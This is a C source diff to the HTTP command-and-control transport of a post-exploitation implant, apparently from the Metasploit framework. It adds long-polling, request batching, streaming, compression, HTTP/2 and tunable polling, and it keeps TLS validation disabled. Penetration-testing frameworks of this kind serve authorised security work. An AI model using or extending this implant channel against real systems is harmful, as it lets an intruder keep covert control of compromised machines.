@@ -8,29 +8,67 @@
 #include <stdlib.h>
 
 #include "argv_split.h"
+#include "buffer_queue.h"
 #include "c2.h"
 #include "http_client.h"
 #include "log.h"
 #include "tlv.h"
+#include "tunables.h"
 
 struct http_ctx {
 	struct c2_transport *t;
+	struct http_client *client;
 	char *uri;
 	struct ev_timer poll_timer;
 	char ** headers;
 	struct http_request_data data;
 	struct http_request_opts opts;
-	struct buffer_queue *egress;
 	int first_packet;
 	int running;
+	int inflight;
+	bool multi_packet;
+	int long_poll;
+	bool polling;
+	struct http_conn *streaming;
+	struct buffer_queue *held;
 };
 
+/*
+ * Outstanding requests allowed at once; the rest of the backlog waits in
+ * the c2 egress queue where it holds back the channels producing it
+ */
+#define HTTP_MAX_INFLIGHT 8
+
+/*
+ * In long-poll mode the server holds each GET for up to 'long_poll'
+ * seconds until it has something to send, and POSTs go out as soon as
+ * there is egress. Holds are capped below curl's 60 second low speed
+ * timeout, and a held GET is abandoned if the server overstays.
+ */
+#define HTTP_LONG_POLL_MAX 50
+#define HTTP_LONG_POLL_SLACK 10
+
 static void patch_uri(struct http_ctx *ctx, struct buffer_queue *q)
 {
 	struct tlv_packet *request = tlv_packet_read_buffer_queue(NULL, q);
 	if (request) {
 		const char *method = tlv_packet_get_str(request, TLV_TYPE_METHOD);
 		const char *new_uri = tlv_packet_get_str(request, TLV_TYPE_TRANS_URL);
+
+		/*
+		 * Handlers that can split a body into packets say so up front
+		 */
+		bool multi_packet = false;
+		if (tlv_packet_get_bool(request, TLV_TYPE_TRANS_MULTI_PACKET, &multi_packet) == 0) {
+			ctx->multi_packet = multi_packet;
+			log_info("multi-packet requests %s", multi_packet ? "enabled" : "disabled");
+		}
+		uint32_t long_poll;
+		if (tlv_packet_get_u32(request, TLV_TYPE_TRANS_LONG_POLL, &long_poll) == 0) {
+			ctx->long_poll = long_poll > HTTP_LONG_POLL_MAX ? HTTP_LONG_POLL_MAX : long_poll;
+			log_info("long-poll hold %d s", ctx->long_poll);
+		}
+
 		if (strcmp(method, "core_patch_url") == 0 && new_uri) {
 			char *old_uri = ctx->uri;
 			char *split = ctx->uri;
@@ -56,13 +94,66 @@ static void patch_uri(struct http_ctx *ctx, struct buffer_queue *q)
 	}
 }
 
+static bool send_egress(struct http_ctx *ctx);
+static void long_poll(struct http_ctx *ctx);
+
+/*
+ * Response bodies go to ingress as they arrive so packets are dispatched
+ * while the rest downloads. Only one response streams at a time, keeping
+ * packets from concurrent responses from interleaving; the others buffer
+ * in their connection, and any that complete meanwhile wait in 'held'.
+ */
+static void http_body_cb(struct http_conn *conn, void *arg)
+{
+	struct http_ctx *ctx = arg;
+
+	if (ctx->first_packet || http_conn_response_code(conn) != 200) {
+		return;
+	}
+	if (ctx->streaming == NULL) {
+		ctx->streaming = conn;
+	}
+	if (ctx->streaming == conn) {
+		c2_transport_ingress_queue(ctx->t, http_conn_response_queue(conn));
+	}
+}
+
+/*
+ * Delivers the rest of a completed response, returning whether it carried
+ * anything at all
+ */
+static bool http_ingress(struct http_ctx *ctx, struct http_conn *conn)
+{
+	struct buffer_queue *q = http_conn_response_queue(conn);
+	bool got_data = buffer_queue_len(q) > 0 || ctx->streaming == conn;
+
+	if (ctx->streaming && ctx->streaming != conn) {
+		buffer_queue_move_all(ctx->held, q);
+		return got_data;
+	}
+
+	if (buffer_queue_len(q) > 0) {
+		c2_transport_ingress_queue(ctx->t, q);
+	}
+	if (ctx->streaming == conn) {
+		ctx->streaming = NULL;
+		if (buffer_queue_len(ctx->held) > 0) {
+			c2_transport_ingress_queue(ctx->t, ctx->held);
+		}
+	}
+	return got_data;
+}
+
 static void http_poll_cb(struct http_conn *conn, void *arg)
 {
 	struct http_ctx *ctx = arg;
 
+	ctx->inflight--;
+
 	int code = http_conn_response_code(conn);
 
 	if (code > 0) {
+		c2_transport_sample_rtt(ctx->t, http_conn_total_time(conn));
 		c2_transport_reachable(ctx->t);
 	} else {
 		c2_transport_unreachable(ctx->t);
@@ -76,60 +167,191 @@ static void http_poll_cb(struct http_conn *conn, void *arg)
 			ctx->first_packet = 0;
 			got_command = true;
 		} else {
-			size_t len;
-			if (buffer_queue_len(ctx->egress) > 0) {
+			if (buffer_queue_len(c2_transport_egress_queue(ctx->t)) > 0) {
 				got_command = true;
 			}
-			if (buffer_queue_len(q) > 0) {
+			if (http_ingress(ctx, conn)) {
 				got_command = true;
-				c2_transport_ingress_queue(ctx->t, q);
 			}
 		}
 	}
 
-	if (got_command) {
-		ctx->poll_timer.repeat = 0.1;
+	if (ctx->long_poll) {
+		/*
+		 * Only POSTs complete here once long-polling, pick up whatever
+		 * waited on the inflight limit
+		 */
+		if (ctx->running && !ctx->first_packet) {
+			send_egress(ctx);
+			long_poll(ctx);
+		}
 	} else {
-		if (ctx->poll_timer.repeat < 10.0) {
-			ctx->poll_timer.repeat += 0.1;
+		double poll_min = tunable_get_secs(TUNABLE_HTTP_POLL_MIN_MS);
+		double poll_max = tunable_get_secs(TUNABLE_HTTP_POLL_MAX_MS);
+		if (got_command) {
+			ctx->poll_timer.repeat = poll_min;
+		} else if (ctx->poll_timer.repeat < poll_max) {
+			ctx->poll_timer.repeat += poll_min;
+		}
+		if (ctx->poll_timer.repeat > poll_max) {
+			ctx->poll_timer.repeat = poll_max;
 		}
 	}
 }
 
-static void http_poll_timer_cb(struct ev_loop *loop, struct ev_timer *w, int revents)
+/*
+ * Rearms the poll timer for its current interval
+ */
+static void poll_later(struct http_ctx *ctx)
 {
-	struct http_ctx *ctx = w->data;
+	struct ev_loop *loop = c2_transport_loop(ctx->t);
+	ev_timer_stop(loop, &ctx->poll_timer);
+	if (ctx->poll_timer.repeat > 0) {
+		ev_timer_set(&ctx->poll_timer,
+			c2_transport_timer_delay(ctx->t, ctx->poll_timer.repeat),
+			ctx->poll_timer.repeat);
+		ev_timer_start(loop, &ctx->poll_timer);
+	}
+}
+
+/*
+ * Retry a failed long-poll from the poll timer, backing off to the
+ * longest poll interval
+ */
+static void long_poll_later(struct http_ctx *ctx)
+{
+	double poll_max = tunable_get_secs(TUNABLE_HTTP_POLL_MAX_MS);
+	if (ctx->poll_timer.repeat < poll_max) {
+		ctx->poll_timer.repeat += 1.0;
+	}
+	if (ctx->poll_timer.repeat > poll_max) {
+		ctx->poll_timer.repeat = poll_max;
+	}
+	poll_later(ctx);
+}
+
+static void http_long_poll_cb(struct http_conn *conn, void *arg)
+{
+	struct http_ctx *ctx = arg;
+
+	ctx->inflight--;
+	ctx->polling = false;
+
+	int code = http_conn_response_code(conn);
+	if (code > 0) {
+		c2_transport_reachable(ctx->t);
+	} else {
+		c2_transport_unreachable(ctx->t);
+	}
+
+	if (code == 200) {
+		http_ingress(ctx, conn);
+	}
+
+	if (ctx->running) {
+		if (code == 200) {
+			ctx->poll_timer.repeat = 0;
+			long_poll(ctx);
+		} else {
+			long_poll_later(ctx);
+		}
+	}
+}
+
+static void long_poll(struct http_ctx *ctx)
+{
+	if (ctx->polling || ctx->inflight >= HTTP_MAX_INFLIGHT) {
+		return;
+	}
+
+	struct http_request_opts opts = ctx->opts;
+	opts.timeout = ctx->long_poll + HTTP_LONG_POLL_SLACK;
+	if (http_request(ctx->client, ctx->uri, http_request_get, http_long_poll_cb, ctx,
+			&ctx->data, &opts) == 0) {
+		ctx->inflight++;
+		ctx->polling = true;
+	} else {
+		long_poll_later(ctx);
+	}
+}
+
+/*
+ * POSTs as much of the egress queue as the inflight limit and the c2
+ * shaper allow, returning whether anything went
+ */
+static bool send_egress(struct http_ctx *ctx)
+{
+	struct buffer_queue *egress = c2_transport_egress_queue(ctx->t);
 	bool sent = false;
 
-	while (buffer_queue_len(ctx->egress) > 0) {
+	while (buffer_queue_len(egress) > 0 && ctx->inflight < HTTP_MAX_INFLIGHT &&
+			c2_transport_egress_allowance(ctx->t) > 0) {
 		/*
-		 * Metasploit's HTTP handler cannot handle multiple queued messages, send these individually for now
-		 * ctx->data.content_len = buffer_queue_remove_all(ctx->egress,
-		 *		&ctx->data.content);
+		 * Older handlers cannot take multiple queued messages in one body,
+		 * so send them individually unless the handler said otherwise.
+		 * Packets are self-delimiting, so a batch is just their concatenation.
+		 * Large batches keep their buffers and are streamed from a queue of
+		 * their own rather than being flattened into one.
 		 */
-		ctx->data.content = buffer_queue_remove_msg(ctx->egress, &ctx->data.content_len);
-		http_request(ctx->uri, http_request_post, http_poll_cb, ctx,
-				&ctx->data, &ctx->opts);
+		size_t stream_min = tunable_get(TUNABLE_HTTP_STREAM_MIN);
+		size_t egress_len = buffer_queue_len(egress);
+		if (ctx->multi_packet && stream_min && egress_len >= stream_min &&
+				(ctx->data.content_queue = buffer_queue_new())) {
+			buffer_queue_move_all(ctx->data.content_queue, egress);
+			ctx->data.content_len = egress_len;
+		} else if (ctx->multi_packet) {
+			ssize_t len = buffer_queue_remove_all(egress, &ctx->data.content);
+			ctx->data.content_len = len > 0 ? len : 0;
+		} else {
+			ctx->data.content = buffer_queue_remove_msg(egress, &ctx->data.content_len);
+		}
+		c2_transport_egress_sent(ctx->t, ctx->data.content_len);
+		ctx->data.flags |= HTTP_DATA_CONTENT_OWNED;
+		if (http_request(ctx->client, ctx->uri, http_request_post, http_poll_cb, ctx,
+				&ctx->data, &ctx->opts) == 0) {
+			ctx->inflight++;
+		}
+		ctx->data.flags &= ~HTTP_DATA_CONTENT_OWNED;
 		ctx->data.content_len = 0;
 		ctx->data.content = NULL;
+		ctx->data.content_queue = NULL;
 		sent = true;
 	}
+	return sent;
+}
 
-	if (!sent) {
-		http_request(ctx->uri, http_request_get, http_poll_cb, ctx,
-				&ctx->data, &ctx->opts);
+static void http_poll_timer_cb(struct ev_loop *loop, struct ev_timer *w, int revents)
+{
+	struct http_ctx *ctx = w->data;
+	bool sent = send_egress(ctx);
+
+	/*
+	 * Once long-polling, the timer only retries after failures
+	 */
+	if (ctx->long_poll && !ctx->first_packet) {
+		ev_timer_stop(loop, w);
+		long_poll(ctx);
+		return;
+	}
+
+	if (!sent && ctx->inflight < HTTP_MAX_INFLIGHT) {
+		if (http_request(ctx->client, ctx->uri, http_request_get, http_poll_cb, ctx,
+				&ctx->data, &ctx->opts) == 0) {
+			ctx->inflight++;
+		}
 	}
 
 	if (ctx->running) {
-		ev_timer_again(c2_transport_loop(ctx->t), &ctx->poll_timer);
+		poll_later(ctx);
 	}
 }
 
 void http_ctx_free(struct http_ctx *ctx)
 {
 	if (ctx) {
-		if (ctx->egress) {
-			buffer_queue_free(ctx->egress);
+		http_client_free(ctx->client);
+		if (ctx->held) {
+			buffer_queue_free(ctx->held);
 		}
 		free(ctx->uri);
 		for (int i = 0; i < ctx->data.num_headers; i++) {
@@ -165,15 +387,16 @@ int http_transport_init(struct c2_transport *t)
 
 	ctx->t = t;
 	ctx->uri = strdup(c2_transport_uri(t));
-	if (ctx->uri == NULL) {
+	ctx->client = http_client_new(c2_transport_loop(t));
+	ctx->held = buffer_queue_new();
+	if (ctx->uri == NULL || ctx->client == NULL || ctx->held == NULL) {
 		goto err;
 	}
 
 	ctx->data.content_type = "application/octet-stream";
+	ctx->data.body_cb = http_body_cb;
 	ctx->opts.flags = HTTP_OPTS_SKIP_TLS_VALIDATION;
 
-	add_header(ctx, "Connection: close");
-
 	char *args = strchr(ctx->uri, '|');
 	if (args) {
 		*args = '\0';
@@ -204,6 +427,19 @@ int http_transport_init(struct c2_transport *t)
 					add_header(ctx, argv[i + 1]);
 					log_info("header: %s", argv[i + 1]);
 				}
+				if (strcmp(argv[i], "--compress") == 0) {
+					ctx->data.flags |= HTTP_DATA_COMPRESS;
+					ctx->data.compress.level = atoi(argv[i + 1]);
+					log_info("compress: level %d", ctx->data.compress.level);
+				}
+				if (strcmp(argv[i], "--http2") == 0 && strcmp(argv[i + 1], "true") == 0) {
+					if (http_client_http2_supported()) {
+						ctx->opts.flags |= HTTP_OPTS_HTTP2;
+						log_info("http2: enabled");
+					} else {
+						log_info("http2: not supported by libcurl, using HTTP/1.1");
+					}
+				}
 			}
 		}
 	}
@@ -215,11 +451,6 @@ int http_transport_init(struct c2_transport *t)
 	ev_init(&ctx->poll_timer, http_poll_timer_cb);
 	ctx->poll_timer.data = ctx;
 
-	ctx->egress = buffer_queue_new();
-	if (ctx->egress == NULL) {
-		goto err;
-	}
-
 	c2_transport_set_ctx(t, ctx);
 	return 0;
 
@@ -236,10 +467,12 @@ void http_transport_start(struct c2_transport *t)
 	ev_timer_again(c2_transport_loop(t), &ctx->poll_timer);
 }
 
-void http_transport_egress(struct c2_transport *t, struct buffer_queue *egress)
+static void http_transport_egress(struct c2_transport *t, struct buffer_queue *egress)
 {
 	struct http_ctx *ctx = c2_transport_get_ctx(t);
-	buffer_queue_move_all(ctx->egress, egress);
+	if (ctx->long_poll && ctx->running && !ctx->first_packet) {
+		send_egress(ctx);
+	}
 }
 
 void http_transport_stop(struct c2_transport *t)
@@ -253,7 +486,11 @@ void http_transport_stop(struct c2_transport *t)
 void http_transport_free(struct c2_transport *t)
 {
 	struct http_ctx *ctx = c2_transport_get_ctx(t);
-	buffer_queue_free(ctx->egress);
+	ev_timer_stop(c2_transport_loop(t), &ctx->poll_timer);
+	/*
+	 * Freeing the client drops outstanding requests without calling back
+	 */
+	http_ctx_free(ctx);
 }
 
 void c2_register_http_transports(struct c2 *c2)